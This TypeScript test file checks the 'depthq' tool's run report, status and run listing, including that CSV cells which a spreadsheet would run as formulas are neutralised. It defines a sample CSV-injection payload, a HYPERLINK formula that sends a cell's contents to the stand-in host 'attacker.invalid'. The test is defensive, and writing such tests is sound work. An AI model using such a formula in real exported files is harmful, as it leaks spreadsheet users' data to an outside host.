/**
 * `depthq report`, `status` and `runs` against a real run on the local stack: the report comes from the ledger, so it
 * is complete after BullMQ removed every finished job; CSV cells a spreadsheet would run as formulas are neutralised.
 */
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fluxDepthPro } from '../../src/core/models.js';
import { renderJobIdOf } from '../../src/core/render-job.js';
import { openRunContext, UnknownRunError } from '../../src/runs/run-context.js';
import { listRunSummaries } from '../../src/runs/run-list.js';
import { neutraliseFormula, REPORT_COLUMNS, writeRunReport } from '../../src/runs/run-report.js';
import { formatRunStatus, readRunStatus, runStatusJson } from '../../src/runs/run-status.js';
import { startRenderWorker } from '../../src/worker/start.js';
import {
  prepareRenderRun,
  type RenderRunFixture,
  useRenderRunCleanup,
  waitForCounters,
} from '../helpers/render-run.js';
import { useLocalStack } from '../helpers/stack.js';

const stack = useLocalStack({
  simulator: { startDelayMs: { min: 5, max: 20 }, latencyMs: { min: 20, max: 60 }, outputMaxSide: 64 },
});

const { fixtures, workers } = useRenderRunCleanup();

const price = fluxDepthPro.priceMicrosPerImage;
/** What a hostile manifest might carry: a spreadsheet would open the link (or run the command) when the CSV is opened. */
const INJECTED_PROMPT = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click me")';

async function reportOf(fixture: RenderRunFixture, format: 'csv' | 'jsonl'): Promise<string> {
  const sink = new PassThrough();
  const chunks: Buffer[] = [];
  sink.on('data', (chunk: Buffer) => chunks.push(chunk));
  const { rows } = await writeRunReport(fixture.ledger, fixture.run, sink, { format, batchSize: 2 });
  expect(rows).toBe(fixture.jobs.length);
  return Buffer.concat(chunks).toString('utf8');
}

describe('run report and status', () => {
  it('reports every job from the ledger after BullMQ removed the finished jobs, with formula cells neutralised', async () => {
    const fixture = await prepareRenderRun(stack(), {
      images: 3,
      styles: ['day', 'night'],
      budgetMicros: 10 * price,
      input: { prompt: INJECTED_PROMPT },
    });
    fixtures.push(fixture);
    const { ledger, queue, run } = fixture;
    const worker = await startRenderWorker(fixture.config, { concurrency: 4 });
    workers.push(worker);
    const counters = await waitForCounters(ledger, run, (c) => c.succeeded === 6);
    expect(counters).toMatchObject({ total: 6, succeeded: 6 });
    await worker.close();

    // BullMQ forgets the finished jobs (as removeOnComplete does after a day); the ledger does not.
    expect(await queue.clean(0, 1_000, 'completed')).toHaveLength(6);
    expect(await queue.getJobCounts('completed', 'waiting', 'active', 'failed', 'delayed')).toEqual({
      completed: 0,
      waiting: 0,
      active: 0,
      failed: 0,
      delayed: 0,
    });

    const csv = await reportOf(fixture, 'csv');
    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(records[0] ?? {})).toEqual([...REPORT_COLUMNS, 'meta.source']);
    expect(records).toHaveLength(6);
    // Sorted by row id, then style.
    const expectedOrder = [...fixture.jobs]
      .sort(
        (a, b) =>
          a.rowId.localeCompare(b.rowId, 'en', { numeric: true }) || (a.style ?? '').localeCompare(b.style ?? ''),
      )
      .map(renderJobIdOf);
    expect(records.map((record) => record.jobId)).toEqual(expectedOrder);
    for (const job of fixture.jobs) {
      const record = records.find((candidate) => candidate.jobId === renderJobIdOf(job));
      const row = await ledger.result(run, renderJobIdOf(job));
      expect(record).toMatchObject({
        rowId: job.rowId,
        style: job.style ?? '',
        status: 'succeeded',
        outputKey: job.output.key,
        seed: String(job.input.seed),
        predictionId: row?.predictionId,
        costUsd: '0.050000',
        attempts: '1',
        error: '',
        'meta.source': 'test',
      });
      expect(record?.predictionId).toMatch(/\S/);
      expect(Number(record?.durationSeconds)).toBeGreaterThan(0);
      // The prompt is there, as text: a leading quote, then exactly what the manifest said.
      expect(record?.prompt).toBe(`'${INJECTED_PROMPT}`);
    }
    // No cell of the file starts a formula.
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    // JSON lines are data: the same rows with the values exactly as recorded.
    const lines = (await reportOf(fixture, 'jsonl')).trimEnd().split('\n');
    expect(lines).toHaveLength(6);
    const first = JSON.parse(lines[0] ?? '{}') as Record<string, unknown>;
    expect(first).toMatchObject({
      jobId: expectedOrder[0],
      status: 'succeeded',
      prompt: INJECTED_PROMPT,
      costMicros: price,
      costUsd: '0.050000',
      metadata: { source: 'test' },
    });

    // Status from the same ledger: everything ended, the money adds up, the rate is measured over the run.
    const meta = await ledger.getRun(run);
    if (meta === undefined) throw new Error('run meta missing');
    const status = await readRunStatus(ledger, run, meta);
    expect(status.counts).toEqual({
      waiting: 0,
      running: 0,
      succeeded: 6,
      failed: 0,
      flagged: 0,
      parked: 0,
      canceled: 0,
      total: 6,
    });
    expect(status.money).toEqual({ budget: 10 * price, reserved: 0, spent: 6 * price, possiblyBilled: 0 });
    expect(status.etaSeconds).toBe(0);
    expect(runStatusJson(status)).toMatchObject({
      run,
      state: 'active',
      ended: true,
      money: { spentUsd: '0.300000', budgetUsd: '0.500000', remainingUsd: '0.200000' },
    });
    const text = formatRunStatus(status);
    expect(text).toContain('succeeded 6');
    expect(text).toContain('spent $0.30');
    expect(text).toContain('budget $0.50 (left $0.20)');
  });

  it('lists runs and refuses an unknown run id with a message that says how to list runs', async () => {
    const fixture = await prepareRenderRun(stack(), { images: 1, styles: ['day'] });
    fixtures.push(fixture);
    const context = await openRunContext(fixture.config);
    try {
      const summaries = await listRunSummaries(context.ledger);
      expect(summaries).toEqual([
        expect.objectContaining({ run: fixture.run, model: fluxDepthPro.id, state: 'active', jobs: 1, succeeded: 0 }),
      ]);
      await expect(context.requireRun('no-such-run')).rejects.toThrow(UnknownRunError);
      await expect(context.requireRun('no-such-run')).rejects.toThrow(/`depthq runs` lists the runs/);
      await expect(context.requireRun('Not A Run!')).rejects.toThrow(/is not a valid run id/);
      expect((await context.requireRun(fixture.run)).model).toBe(fluxDepthPro.id);
    } finally {
      await context.close();
    }
  });

  it('neutralises each character that starts a formula, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    }
    for (const harmless of ['', 'a=b', ' =1', '0.050000', "'=already quoted"]) {
      expect(neutraliseFormula(harmless)).toBe(harmless);
    }
  });
});
